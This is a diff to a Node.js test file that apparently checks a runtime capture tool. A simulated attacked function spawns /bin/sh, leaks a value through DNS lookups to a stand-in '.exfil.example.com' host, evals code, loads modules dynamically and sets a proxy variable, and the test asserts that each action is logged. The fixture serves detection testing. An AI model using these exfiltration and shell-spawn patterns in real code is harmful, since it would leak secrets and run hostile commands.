@@ -4,7 +4,7 @@ import { execFile } from 'node:child_process';
 import { randomBytes } from 'node:crypto';
 import { existsSync, globSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join, resolve } from 'node:path';
+import { basename, join, resolve } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { promisify } from 'node:util';
 import { generateX25519Identity, identityToRecipient } from 'age-encryption';
@@ -30,6 +30,8 @@ import cp from 'node:child_process';
 import dns from 'node:dns';
 import fs from 'node:fs';
 import http from 'node:http';
+import { createRequire } from 'node:module';
+process.chdir(process.env.HOME);
 const S = JSON.parse(fs.readFileSync(process.argv[2], 'utf8'));
 fs.unlinkSync(process.argv[2]);
 const quiet = () => undefined;
@@ -46,6 +48,9 @@ export const handler = withCapture(async (event) => {
   await resolver.resolveTxt(S.name + '.exfil.example.com').catch(quiet);
   await import('data:text/javascript,export default "' + S.url + '"');
   await import('file:///tmp/absent.mjs?key=' + S.require).catch(quiet);
+  fs.writeFileSync('late.cjs', '');
+  createRequire(import.meta.url)(fs.realpathSync('late.cjs'));
+  fs.unlinkSync('late.cjs');
   (0, eval)('globalThis.done = ' + JSON.stringify(S.url));
 });
 for (const event of ['idle', 'attack', ...Array(90).fill('idle')]) await handler(event, {});
@@ -100,14 +105,14 @@ describe('a capture of a function that was attacked', () => {
       .split('\n')
       .filter((line) => line.startsWith('{"ring":1,"time"'))
       .map((line) => JSON.parse(line) as { kind: string; subject: string; argv?: string[] });
-    const told = rows.map(({ kind, subject }) => `${kind} ${subject}`);
+    const told = rows.map(({ kind, subject }) => `${kind} ${kind === 'module' ? basename(subject) : subject}`);
     for (const expected of [
       'spawn /bin/sh',
       'spawn true',
       'request GET http://127.0.0.1',
       'connect 127.0.0.1:9',
       'resolve example.com',
-      'module data:',
+      'module late.cjs',
       'variable HTTPS_PROXY=http://203.0.113.7:3128',
     ])
       assert.ok(told.includes(expected), `${expected} in ${told.join('\n')}`);
